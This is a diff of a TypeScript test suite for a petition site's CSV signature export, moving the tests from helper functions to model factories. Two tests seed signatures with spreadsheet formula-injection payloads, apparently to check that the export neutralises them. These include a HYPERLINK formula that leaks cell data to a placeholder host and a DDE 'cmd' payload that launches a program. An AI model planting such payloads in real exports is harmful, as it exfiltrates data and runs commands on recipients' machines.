@@ -5,14 +5,11 @@ import { allowedRequests } from '#config/rate_limits'
 import { DateTime } from 'luxon'
 import { insertSignatureRows } from '#database/seeders/signature_rows'
 import { EXPORT_CHUNK_SIZE } from '#services/signatures/management'
-import {
-  addSignature,
-  makePetition,
-  makePetitionWithEveryColumn,
-  parseCsv,
-} from '#tests/helpers/signatures'
+import { parseCsv } from '#tests/helpers/signatures'
 import type Petition from '#models/petition'
 import type User from '#models/user'
+import { PetitionFactory } from '#database/factories/petition_factory'
+import { SignatureFactory } from '#database/factories/signature_factory'
 
 function download(client: any, petition: Petition, owner: User, host?: string) {
   const request = client
@@ -30,9 +27,14 @@ test.group('Signatures export', (group) => {
     client,
     assert,
   }) => {
-    const { petition, owner, district, age } = await makePetitionWithEveryColumn()
+    const petition = await PetitionFactory.apply('published', 'withOpposition', 'withCustomFields')
+      .with('user')
+      .create()
+    const owner = petition.user
+    const [district, age] = petition.customFields
     const signedAt = DateTime.fromISO('2026-11-20T08:30:15Z', { zone: 'utc' })
-    await addSignature(petition, {
+    await SignatureFactory.merge({
+      petitionId: petition.id,
       firstName: 'Smith, Jr.',
       lastName: 'O"Brien',
       email: 'obrien@example.org',
@@ -40,19 +42,18 @@ test.group('Signatures export', (group) => {
       customFieldsData: { [district.id]: 'Подол, Київ', [age.id]: '42' },
       createdAt: signedAt,
       confirmedAt: signedAt.plus({ minutes: 5 }),
-    })
-    await addSignature(petition, {
-      firstName: 'Олена',
-      lastName: 'Коваль',
-      email: 'olena@example.org',
-      comment: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-      score: -1,
-      private: true,
-      active: false,
-      confirmedAt: null,
-      customFieldsData: { [district.id]: '@SUM(1+1)' },
-      createdAt: signedAt.plus({ hours: 1 }),
-    })
+    }).create()
+    await SignatureFactory.apply('opposing', 'anonymous', 'inactive', 'unconfirmed')
+      .merge({
+        petitionId: petition.id,
+        firstName: 'Олена',
+        lastName: 'Коваль',
+        email: 'olena@example.org',
+        comment: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+        customFieldsData: { [district.id]: '@SUM(1+1)' },
+        createdAt: signedAt.plus({ hours: 1 }),
+      })
+      .create()
 
     const response = await download(client, petition, owner)
     response.assertStatus(200)
@@ -115,12 +116,12 @@ test.group('Signatures export', (group) => {
     client,
     assert,
   }) => {
-    const { petition, owner } = await makePetition({
-      allowComments: false,
-      allowOpposite: false,
-      customFields: [],
-    })
-    await addSignature(petition)
+    const petition = await PetitionFactory.apply('published')
+      .merge({ allowComments: false })
+      .with('user')
+      .create()
+    const owner = petition.user
+    await SignatureFactory.merge({ petitionId: petition.id }).create()
     const rows = parseCsv((await download(client, petition, owner)).text().slice(1))
     assert.deepEqual(rows[0], [
       'ID',
@@ -137,8 +138,9 @@ test.group('Signatures export', (group) => {
   })
 
   test('the header and yes/no are in the language of the page', async ({ client, assert }) => {
-    const { petition, owner } = await makePetition({ customFields: [] })
-    await addSignature(petition)
+    const petition = await PetitionFactory.apply('published').with('user').create()
+    const owner = petition.user
+    await SignatureFactory.merge({ petitionId: petition.id }).create()
     const ukRows = parseCsv(
       (await download(client, petition, owner, 'uk.undersign.test')).text().slice(1)
     )
@@ -152,7 +154,8 @@ test.group('Signatures export', (group) => {
     client,
     assert,
   }) => {
-    const { petition, owner } = await makePetition()
+    const petition = await PetitionFactory.apply('published').with('user').create()
+    const owner = petition.user
     const count = EXPORT_CHUNK_SIZE * 2 + 17
     await insertSignatureRows(petition.id, count, { batchSize: 500 })
     const rows = parseCsv((await download(client, petition, owner)).text().slice(1)).slice(1)
@@ -171,13 +174,18 @@ test.group('Signatures export', (group) => {
     client,
     assert,
   }) => {
-    const { petition, owner, district } = await makePetitionWithEveryColumn()
-    await addSignature(petition, {
+    const petition = await PetitionFactory.apply('published', 'withOpposition', 'withCustomFields')
+      .with('user')
+      .create()
+    const owner = petition.user
+    const [district] = petition.customFields
+    await SignatureFactory.merge({
+      petitionId: petition.id,
       firstName: 'x;=HYPERLINK("http://evil.example/?"&A1)',
       lastName: 'y\t+1+1',
       comment: "fine\n-2+3\r\n@SUM(A1:A9);=cmd|' /C calc'!A0",
       customFieldsData: { [district.id]: 'a;-1' },
-    })
+    }).create()
 
     const text: string = (await download(client, petition, owner)).text().slice(1)
     // Excel in a semicolon locale, and a paste of tab-separated text, split
@@ -192,8 +200,9 @@ test.group('Signatures export', (group) => {
   })
 
   test("a member's exports are rate-limited", async ({ client, assert }) => {
-    const { petition, owner } = await makePetition()
-    await addSignature(petition, { email: 'limited@example.org' })
+    const petition = await PetitionFactory.apply('published').with('user').create()
+    const owner = petition.user
+    await SignatureFactory.merge({ petitionId: petition.id, email: 'limited@example.org' }).create()
     for (let attempt = 0; attempt < allowedRequests('signaturesExport'); attempt++) {
       ;(await download(client, petition, owner)).assertStatus(200)
     }
